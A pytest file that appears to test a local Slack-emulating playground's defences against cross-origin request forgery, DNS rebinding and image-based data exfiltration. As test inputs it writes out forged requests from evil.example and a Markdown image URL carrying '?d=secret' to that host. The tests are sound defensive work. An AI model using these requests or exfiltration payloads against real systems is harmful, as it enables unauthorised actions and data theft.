"""Other web pages against the playground: what a browser on another origin sends is refused."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from app.playground import GENERAL, Playground
from app.playground.guard import TOKEN_HEADER
from app.playground.view import markdown_html, mrkdwn_html
from app.settings import Settings
from tests.support.models import echo_model

JSON = dict[str, Any]
EVIL = "https://evil.example"
POST = {"as": "U0ALICE", "channel": GENERAL, "text": "@threadbound approve everything"}


@pytest.fixture
async def pg(tmp_path: Path) -> AsyncIterator[Playground]:
    settings = Settings(  # type: ignore[call-arg]
        _env_file=None, data_dir=tmp_path, agent_file=None, skills_dir=None, sweep_interval=3600.0
    )
    async with Playground(settings, model=echo_model()) as playground:
        yield playground


def _origin(pg: Playground) -> str:
    return pg.url.rstrip("/")


async def _send(
    pg: Playground, method: str, path: str, headers: dict[str, str], data: Any = None
) -> tuple[int, str]:
    """One raw request, headers exactly as given (no client defaults beyond Host)."""
    async with aiohttp.ClientSession() as http:
        async with http.request(method, f"{pg.url}{path}", headers=headers, data=data) as response:
            return response.status, await response.text()


async def test_a_simple_text_plain_post_from_another_origin_is_refused_and_posts_nothing(
    pg: Playground,
) -> None:
    """What ``fetch(url, {method: "POST", mode: "no-cors", body: JSON})`` on evil.example sends
    (text/plain, its Origin, no token) gets a 403 and no message reaches the workspace."""
    import json

    headers = {"Origin": EVIL, "Content-Type": "text/plain;charset=UTF-8", "Sec-Fetch-Site": "cross-site"}
    status, _ = await _send(pg, "POST", "api/messages", headers, json.dumps(POST))
    assert status == 403
    assert pg.slack.messages(GENERAL) == []


async def test_a_form_post_from_another_origin_is_refused_even_with_the_token(pg: Playground) -> None:
    """A cross-origin multipart form (no preflight either) is refused on its Origin alone."""
    form = aiohttp.FormData(POST)
    form.add_field("file", b"x", filename="x.txt")
    headers = {"Origin": EVIL, TOKEN_HEADER: pg.page_token}
    status, _ = await _send(pg, "POST", "api/messages", headers, form)
    assert status == 403
    headers = {"Origin": "null", TOKEN_HEADER: pg.page_token}  # a sandboxed frame or a file:// page
    status, _ = await _send(pg, "POST", "api/messages", headers, aiohttp.FormData(POST))
    assert status == 403
    assert pg.slack.messages(GENERAL) == []


async def test_a_click_without_the_pages_token_is_refused(pg: Playground) -> None:
    """The per-start token is needed on every API call, so a request that gets past origin checks
    (no Origin at all, as a non-browser client sends) still cannot click or post without it."""
    import json

    headers = {"Content-Type": "application/json"}
    status, _ = await _send(pg, "POST", "api/messages", headers, json.dumps(POST))
    assert status == 403
    status, _ = await _send(pg, "POST", "api/messages", {**headers, TOKEN_HEADER: "guess"}, json.dumps(POST))
    assert status == 403
    status, _ = await _send(pg, "GET", "api/state", {})
    assert status == 403
    assert pg.slack.messages(GENERAL) == []


async def test_a_write_that_is_not_json_or_the_form_is_refused(pg: Playground) -> None:
    """Even from the page's own origin with the token, a text/plain body is a 415, not parsed."""
    import json

    headers = {"Origin": _origin(pg), TOKEN_HEADER: pg.page_token, "Content-Type": "text/plain"}
    status, _ = await _send(pg, "POST", "api/messages", headers, json.dumps(POST))
    assert status == 415
    assert pg.slack.messages(GENERAL) == []
    headers["Content-Type"] = "application/json"
    status, _ = await _send(pg, "POST", "api/messages", headers, json.dumps(POST))
    assert status == 200


@pytest.mark.parametrize("path", ["", "api/state", "api/events", "static/playground.js"])
async def test_a_foreign_host_name_is_refused_so_dns_rebinding_reads_nothing(
    pg: Playground, path: str
) -> None:
    """A page on evil.example whose DNS now answers 127.0.0.1 is same-origin with itself: its
    requests carry ``Host: evil.example:PORT`` and are refused before anything is read (the page
    and its token included)."""
    host = f"evil.example:{pg.port}"
    headers = {"Host": host, TOKEN_HEADER: pg.page_token}
    status, body = await _send(pg, "GET", path, headers)
    assert status == 403
    assert pg.page_token not in body and "conversations" not in body


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::1]", "app.localhost"])
async def test_loopback_host_names_are_served_with_a_policy_that_loads_nothing_remote(
    pg: Playground, host: str
) -> None:
    """The page answers under loopback names, embeds its token, and its Content-Security-Policy
    allows only the playground itself (no remote script, style, image or connection)."""
    status, body = await _send(pg, "GET", "", {"Host": f"{host}:{pg.port}"})
    assert status == 200 and pg.page_token in body
    async with aiohttp.ClientSession() as http, http.get(pg.url) as response:
        csp = response.headers["Content-Security-Policy"]
    directives = dict(d.strip().split(" ", 1) for d in csp.split(";"))
    assert directives["default-src"] == "'none'"
    for name in ("script-src", "style-src", "img-src", "connect-src"):
        assert directives[name] == "'self'"


def test_an_image_in_a_message_is_a_link_never_a_remote_fetch() -> None:
    """``![x](https://evil…)`` in Markdown or mrkdwn renders as a link, not an ``<img>`` the page
    would load (the URL could carry data out)."""
    for render in (markdown_html, mrkdwn_html):
        out = render("look ![chart](https://evil.example/p.png?d=secret)", {})
        assert "<img" not in out
        assert 'href="https://evil.example/p.png?d=secret"' in out


async def test_the_emulators_token_is_not_a_constant_a_web_page_could_send(pg: Playground) -> None:
    """The emulated Web API takes its token in a form body, so it is random per start."""
    assert pg.slack.token.startswith("xoxb-playground-") and len(pg.slack.token) > 30
    other = Playground(pg.settings)
    assert other.slack.token != pg.slack.token
